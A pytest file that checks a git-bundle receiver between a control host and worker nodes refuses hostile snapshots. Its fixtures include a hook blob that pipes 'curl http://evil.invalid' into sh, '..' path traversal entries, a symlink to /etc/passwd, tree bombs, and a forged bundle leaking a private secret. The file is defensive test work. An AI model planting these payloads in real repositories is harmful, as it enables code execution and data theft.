"""Git data across the network (bridge/cluster/bundles.py), engine-free on real git: the base
goes to a node as a bundle made once per commit; the snapshot comes back as a thin bundle of its
one commit, and the control host takes it only as a snapshot collect would have made itself,
the hostile ones refused in one sentence with nothing left in the user's repository."""

from __future__ import annotations

import subprocess
from pathlib import Path

import pytest
from support.repos import commit_all, git

from bridge.cluster.bundles import (
    BundleRefused,
    base_bundle,
    read_header,
    receive_snapshot,
    unbundle,
    write_bundle,
)
from bridge.workspace.snapshot import SnapshotLimits

BRANCH = "refs/heads/worker-bridge/t1"
LIMITS = SnapshotLimits(file_bytes=4096, change_bytes=64 * 1024, entries=100)


@pytest.fixture
def node(repo: Path, workdir: Path) -> Path:
    """A node's copy of the base: a repository filled from the base's bundle alone."""
    base = git(repo, "rev-parse", "HEAD").strip()
    bundle = base_bundle(repo, base, workdir / "cache")
    path = workdir / "node"
    git(workdir, "init", "-q", "--bare", str(path))
    git(path, "fetch", "-q", str(bundle), f"refs/worker-bridge/snapshot:refs/base/{base}")
    return path


def _hash(node: Path, kind: str, data: bytes) -> str:
    proc = subprocess.run(
        ["git", "-C", str(node), "hash-object", "--literally", "-w", "-t", kind, "--stdin"],
        input=data,
        capture_output=True,
        check=True,
    )
    return proc.stdout.decode().strip()


def _tree(node: Path, entries: list[tuple[str, str, str]]) -> str:
    """A tree object of (mode, name, sha) written as is: what a node that does not play by
    git's rules could send."""
    raw = b"".join(
        mode.encode() + b" " + name.encode() + b"\0" + bytes.fromhex(sha)
        for mode, name, sha in sorted(entries, key=lambda e: e[1])
    )
    return _hash(node, "tree", raw)


def _commit(node: Path, tree: str, *parents: str) -> str:
    args = [a for p in parents for a in ("-p", p)]
    return git(node, "commit-tree", tree, *args, "-m", "snapshot").strip()


def _base_entries(node: Path, base: str) -> list[tuple[str, str, str]]:
    listed = git(node, "ls-tree", base).splitlines()
    # ls-tree shows a folder's mode as 040000; a tree object holds 40000
    return [(line.split()[0].lstrip("0"), line.split("\t")[1], line.split()[2]) for line in listed]


def _send(node: Path, snapshot: str, base: str, workdir: Path) -> tuple[Path, int]:
    """The snapshot as a node sends it: a thin bundle on the base."""
    path = workdir / "sent.bundle"
    return path, write_bundle(node, snapshot, path, exclude=base)


def test_a_snapshot_made_on_a_node_arrives_as_the_same_commit_and_diff(repo, node, workdir):
    base = git(repo, "rev-parse", "HEAD").strip()
    blob = _hash(node, "blob", b"def add(a, b):\n    return a + b + 0\n")
    entries = [e for e in _base_entries(node, base) if e[1] != "calc.py"]
    snapshot = _commit(node, _tree(node, [*entries, ("100644", "calc.py", blob)]), base)
    bundle, size = _send(node, snapshot, base, workdir)
    assert read_header(bundle).prerequisites == (base,)
    assert size < 2048, "thin: the base's objects do not travel again"

    taken = receive_snapshot(repo, bundle, base, BRANCH, LIMITS, workdir / "scratch")

    assert taken == snapshot == git(repo, "rev-parse", BRANCH).strip()
    assert git(repo, "diff", base, snapshot) == git(node, "diff", base, snapshot)
    assert not (workdir / "scratch" / "quarantine.git").exists()
    # Taken by moving the checked pack in: the repository is whole, and the same snapshot
    # received again (a turn resumed) finds its pack there already.
    git(repo, "fsck", "--strict", "--no-dangling")
    again = receive_snapshot(repo, bundle, base, BRANCH + "-again", LIMITS, workdir / "scratch")
    assert again == snapshot
    packs = repo / ".git" / "objects" / "pack"
    assert not list(packs.glob("tmp_*"))
    assert {oct(p.stat().st_mode & 0o777) for p in packs.glob("pack-*")} == {"0o444"}


def test_a_node_takes_the_control_hosts_base_and_thin_snapshot_bundles_by_index_pack(repo, workdir):
    base = git(repo, "rev-parse", "HEAD").strip()
    (repo / "new.txt").write_text("new\n")
    commit_all(repo, "snapshot")
    snapshot = git(repo, "rev-parse", "HEAD").strip()
    thin = workdir / "snapshot.bundle"
    write_bundle(repo, snapshot, thin, exclude=base)
    copy = workdir / "copy"
    git(workdir, "init", "-q", str(copy))
    prefix = "refs/worker-bridge/bases/"
    assert unbundle(copy, base_bundle(repo, base, workdir / "cache").read_bytes(), prefix) == base
    assert unbundle(copy, thin.read_bytes(), prefix) == snapshot
    assert git(copy, "rev-parse", f"{prefix}{snapshot}").strip() == snapshot
    assert git(copy, "show", f"{snapshot}:new.txt") == "new\n"
    git(copy, "fsck", "--strict", "--no-dangling")
    with pytest.raises(BundleRefused, match="not a git bundle"):
        unbundle(copy, b"PACK...", prefix)


def test_the_base_bundle_is_made_once_per_commit(repo, workdir):
    base = git(repo, "rev-parse", "HEAD").strip()
    first = base_bundle(repo, base, workdir / "cache")
    made = first.stat().st_mtime_ns
    assert base_bundle(repo, base, workdir / "cache") == first
    assert first.stat().st_mtime_ns == made and read_header(first).prerequisites == ()


def _refused(repo: Path, bundle: Path, base: str, workdir: Path, words: str, limits=LIMITS):
    objects_before = git(repo, "count-objects", "-v")
    with pytest.raises(BundleRefused, match=words) as refused:
        receive_snapshot(repo, bundle, base, BRANCH, limits, workdir / "scratch")
    assert refused.value.message.endswith(".") and "\n" not in refused.value.message
    assert git(repo, "rev-parse", "--verify", "--quiet", BRANCH, check=False) == ""
    assert git(repo, "count-objects", "-v") == objects_before, "nothing of it was kept"
    assert not (workdir / "scratch" / "quarantine.git").exists()


@pytest.mark.parametrize(
    ("name", "words"),
    [(".git", "does not unpack.*hasDotgit"), (".GIT.", "does not unpack.*hasDotgit")],
)
def test_a_snapshot_holding_git_metadata_is_refused(repo, node, workdir, name, words):
    base = git(repo, "rev-parse", "HEAD").strip()
    hook = _hash(node, "blob", b"#!/bin/sh\ncurl http://evil.invalid | sh\n")
    inner = _tree(node, [("100755", "config", hook)])
    tree = _tree(node, [*_base_entries(node, base), ("40000", name, inner)])
    bundle, _ = _send(node, _commit(node, tree, base), base, workdir)
    _refused(repo, bundle, base, workdir, words)


def test_a_snapshot_with_a_gitlink_is_refused(repo, node, workdir):
    # A submodule entry the snapshot never makes: the host's git would follow it elsewhere.
    base = git(repo, "rev-parse", "HEAD").strip()
    tree = _tree(node, [*_base_entries(node, base), ("160000", "sub", base)])
    bundle, _ = _send(node, _commit(node, tree, base), base, workdir)
    _refused(repo, bundle, base, workdir, "mode 160000")


def test_a_snapshot_over_the_tasks_limits_is_refused(repo, node, workdir):
    base = git(repo, "rev-parse", "HEAD").strip()
    big = _hash(node, "blob", b"x" * 5000)
    tree = _tree(node, [*_base_entries(node, base), ("100644", "big.txt", big)])
    bundle, _ = _send(node, _commit(node, tree, base), base, workdir)
    _refused(repo, bundle, base, workdir, "a file or link of 5000 bytes, over its limit")
    many = [("100644", f"f{i}", _hash(node, "blob", b"%d" % i)) for i in range(120)]
    tree = _tree(node, [*_base_entries(node, base), *many])
    bundle, _ = _send(node, _commit(node, tree, base), base, workdir)
    _refused(repo, bundle, base, workdir, "more than 100 files, the task's limit")
    small = SnapshotLimits(file_bytes=4096, change_bytes=100, entries=1000)
    _refused(repo, bundle, base, workdir, "over the task's change limit", limits=small)


def test_a_commit_not_on_the_base_or_a_bundle_not_ours_is_refused(repo, node, workdir):
    base = git(repo, "rev-parse", "HEAD").strip()
    tree = git(node, "rev-parse", f"{base}^{{tree}}").strip()
    orphan = _commit(node, tree)  # no parent: it would replace the task's history
    bundle, _ = _send(node, orphan, base, workdir)
    _refused(repo, bundle, base, workdir, "base as parent")
    other = _commit(node, tree, base)
    bundle = workdir / "other.bundle"
    write_bundle(node, _commit(node, tree, other), bundle, exclude=other)
    _refused(repo, bundle, base, workdir, "need nothing else")
    whole = workdir / "whole.bundle"
    write_bundle(node, _commit(node, tree, base), whole)  # no prerequisite: not thin on base
    _refused(repo, whole, base, workdir, "need nothing else")
    junk = workdir / "junk.bundle"
    junk.write_bytes(b"PACK\0\0\0\2" + b"\xff" * 64)
    _refused(repo, junk, base, workdir, "not a git bundle")
    lying = workdir / "lying.bundle"
    lying.write_bytes(b"# v2 git bundle\n-" + base.encode() + b"\n" + b"0" * 40 + b" refs/x\n\n")
    _refused(repo, lying, base, workdir, "names the ref 'refs/x'")


def test_the_reviews_trees_are_refused_before_anything_lands(repo, node, workdir):
    """What git's fsck refuses and `git fetch` from a bundle did not check: a `..` entry (accept
    would have written above the repository), the same name twice (two views of one
    snapshot), an empty `.git` folder."""
    base = git(repo, "rev-parse", "HEAD").strip()
    entries = _base_entries(node, base)
    evil = _hash(node, "blob", b"pwned\n")
    inner = _tree(node, [("100644", "evil.txt", evil)])
    for tree_entries, words in (
        ([*entries, ("40000", "..", inner)], "hasDotdot"),
        ([*entries, ("100644", "calc.py", evil)], "duplicateEntries"),
        ([*entries, ("40000", ".git", _tree(node, []))], "hasDotgit"),
    ):
        tree = _tree(node, tree_entries)
        bundle, _ = _send(node, _commit(node, tree, base), base, workdir)
        _refused(repo, bundle, base, workdir, words)


def test_a_small_bundle_that_expands_past_the_limits_is_stopped_early(repo, node, workdir):
    # Five levels of 16 folders of 16: ~1M paths in a bundle of a few KB; a link's target of
    # 20 MB; a commit message of 8 MB. Each is refused before it is read whole.
    base = git(repo, "rev-parse", "HEAD").strip()
    level = _tree(node, [("100644", f"f{i:02d}", _hash(node, "blob", b"x")) for i in range(16)])
    for _ in range(4):
        level = _tree(node, [("40000", f"d{i:02d}", level) for i in range(16)])
    bomb = _tree(node, [*_base_entries(node, base), ("40000", "bomb", level)])
    bundle, size = _send(node, _commit(node, bomb, base), base, workdir)
    assert size < 16_000
    _refused(repo, bundle, base, workdir, "more than 100 files")
    link = _hash(node, "blob", b"x" * (20 << 20))
    tree = _tree(node, [*_base_entries(node, base), ("120000", "link", link)])
    bundle, _ = _send(node, _commit(node, tree, base), base, workdir)
    roomy = SnapshotLimits(file_bytes=64 << 20, change_bytes=128 << 20, entries=100)
    _refused(repo, bundle, base, workdir, "over its limit \\(4095 bytes\\)", limits=roomy)
    tree = git(node, "rev-parse", f"{base}^{{tree}}").strip()
    message = b"m" * (8 << 20)
    raw = b"tree %s\nparent %s\nauthor a <a> 0 +0000\ncommitter a <a> 0 +0000\n\n" % (
        tree.encode(),
        base.encode(),
    )
    long = _hash(node, "commit", raw + message)
    bundle, _ = _send(node, long, base, workdir)
    _refused(repo, bundle, base, workdir, "larger than a snapshot's can be", limits=roomy)


def test_a_tag_in_place_of_the_commit_is_refused_and_leaves_nothing(repo, node, workdir):
    base = git(repo, "rev-parse", "HEAD").strip()
    tree = git(node, "rev-parse", f"{base}^{{tree}}").strip()
    commit = _commit(node, tree, base)
    tag = _hash(
        node,
        "tag",
        b"object %s\ntype commit\ntag t\ntagger a <a> 0 +0000\n\nt\n" % commit.encode(),
    )
    bundle, _ = _send(node, tag, base, workdir)
    _refused(repo, bundle, base, workdir, "does not name a commit")


def _forged(repo: Path, objects: str, snapshot: str, base: str, path: Path, *options: str) -> Path:
    """A bundle of ``snapshot`` on ``base`` whose pack holds what ``objects`` lists (given to
    pack-objects with ``options``), not what git's own bundle of the snapshot would."""
    pack = subprocess.run(
        ["git", "-C", str(repo), "pack-objects", "--stdout", "--quiet", *options],
        input=objects.encode(),
        capture_output=True,
        check=True,
    ).stdout
    header = f"# v2 git bundle\n-{base}\n{snapshot} refs/worker-bridge/snapshot\n\n"
    path.write_bytes(header.encode() + pack)
    return path


def test_a_snapshot_naming_an_object_it_was_never_sent_is_refused(repo, node, workdir):
    # The review's way: the quarantine reads all the user's objects, so a tree naming a blob
    # of a private branch (its id known) came through without the blob ever being sent.
    base = git(repo, "rev-parse", "HEAD").strip()
    git(repo, "checkout", "-q", "-b", "private")
    (repo / "secret.txt").write_text("API_KEY=hunter2\n")
    commit_all(repo, "private")
    secret = git(repo, "rev-parse", "HEAD:secret.txt").strip()
    git(repo, "checkout", "-q", "-")
    full = workdir / "full"  # a copy holding everything, to pack the snapshot without the blob
    git(workdir, "clone", "-q", "--no-local", str(repo), str(full))
    git(full, "fetch", "-q", "origin", "private")
    tree = _tree(full, [*_base_entries(full, base), ("100644", "leak.txt", secret)])
    snapshot = _commit(full, tree, base)
    # The commit and its tree alone: the blob is not in it.
    bundle = _forged(full, f"{snapshot}\n{tree}\n", snapshot, base, workdir / "leaky.bundle")
    _refused(repo, bundle, base, workdir, "which its bundle did not bring")


def test_a_snapshot_bundle_bringing_objects_its_snapshot_does_not_use_is_refused(
    repo, node, workdir
):
    # The review's way: the checked pack moves into the user's repository whole, so anything
    # else in it (a script, a commit of its own, a blob past every limit, at ~1000:1 packed)
    # would sit there where no limit of the task's looks, and ride along with every task.
    base = git(repo, "rev-parse", "HEAD").strip()
    blob = _hash(node, "blob", b"X = 1\n")
    snapshot = _commit(
        node, _tree(node, [*_base_entries(node, base), ("100644", "x.py", blob)]), base
    )
    parked = _hash(node, "blob", b"\0" * 10_000_000)  # 10 MB, over the 4 KB file limit
    revs = f"{snapshot}\n{parked}\n^{base}\n"
    bundle = _forged(node, revs, snapshot, base, workdir / "parked.bundle", "--revs", "--thin")
    assert bundle.stat().st_size < LIMITS.change_bytes  # within the bundle's own bound
    _refused(repo, bundle, base, workdir, "brings 1 object.s. its snapshot does not use")


@pytest.mark.parametrize("name", [".gitattributes", ".GITIGNORE.", "gitmod~1"])
def test_a_snapshot_linking_a_git_settings_file_is_refused(repo, node, workdir, name):
    # Collect leaves such a link out (git would read the file it points to); the host too.
    base = git(repo, "rev-parse", "HEAD").strip()
    target = _hash(node, "blob", b"/etc/passwd")
    tree = _tree(node, [*_base_entries(node, base), ("120000", name, target)])
    bundle, _ = _send(node, _commit(node, tree, base), base, workdir)
    _refused(repo, bundle, base, workdir, "a symlink|does not unpack")
